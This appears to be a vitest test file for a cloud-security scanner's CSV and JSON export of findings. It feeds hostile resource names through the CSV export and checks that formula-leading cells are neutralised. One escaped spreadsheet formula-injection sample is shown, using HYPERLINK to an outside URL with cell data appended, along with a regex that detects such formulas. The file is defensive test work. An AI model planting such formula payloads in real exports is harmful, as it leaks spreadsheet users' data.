import { hostileTexts, sampleCheck, sampleFinding, sampleResource } from "@postern/testing";
import { describe, expect, test } from "vitest";
import { EvidenceReader } from "./evidence.ts";
import { csvOf, jsonOf } from "./export.ts";
import { payloadWith } from "./payload.test-support.ts";

const names = [...Object.values(hostileTexts), "photos"];
const payload = payloadWith(
  [sampleCheck()],
  names.map((name) => sampleFinding({ resource: sampleResource({ name }) })),
);
const last = names.length - 1;

describe("the rows as CSV", () => {
  test("have the columns of the CSV report, and only the rows that were asked for", () => {
    const lines = csvOf(payload, [last]);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^id_prefix,status,severity,change,check,title,service,.*\r\n$/);
    expect(lines[1]).toMatch(/^[0-9a-f]{12},fail,medium,,s3-bucket-versioning-enabled,.*,photos,.*\r\n$/);
  });

  test("hold no formula and nothing that acts unseen", () => {
    const lines = csvOf(payload, [...names.keys()]);
    expect(lines).toHaveLength(names.length + 1);
    for (const line of lines) {
      expect(line).toMatch(/^[^\r\n]*\r\n$/);
      expect(line).not.toMatch(/(?:^|,)"?[=+\-@]|[\p{Cf}\p{Cs}]/u);
    }
    expect(lines.some((line) => line.includes(`"'=HYPERLINK(""https://example.com?""&A1,""open"")"`))).toBe(
      true,
    );
  });
});

describe("the rows as JSON", () => {
  test("have names and messages as they were, and the evidence", () => {
    const text = jsonOf(payload, new EvidenceReader(payload.evidence), [...names.keys()]).join("");
    const items = JSON.parse(text) as Record<string, unknown>[];
    expect(items.map(({ name }) => name)).toEqual(names);
    expect(items[last]).toMatchObject({
      checkId: "s3-bucket-versioning-enabled",
      message: "Bucket photos does not keep earlier versions.",
      arn: "arn:aws:s3:::photos",
      evidence: [
        {
          action: "s3:GetBucketVersioning",
          requestId: "EXAMPLEREQUEST01",
          at: "2026-11-02T08:00:00Z",
          value: {},
        },
      ],
    });
  });

  test("are a list, also where there are none", () => {
    expect(JSON.parse(jsonOf(payload, new EvidenceReader(payload.evidence), []).join(""))).toEqual([]);
  });
});
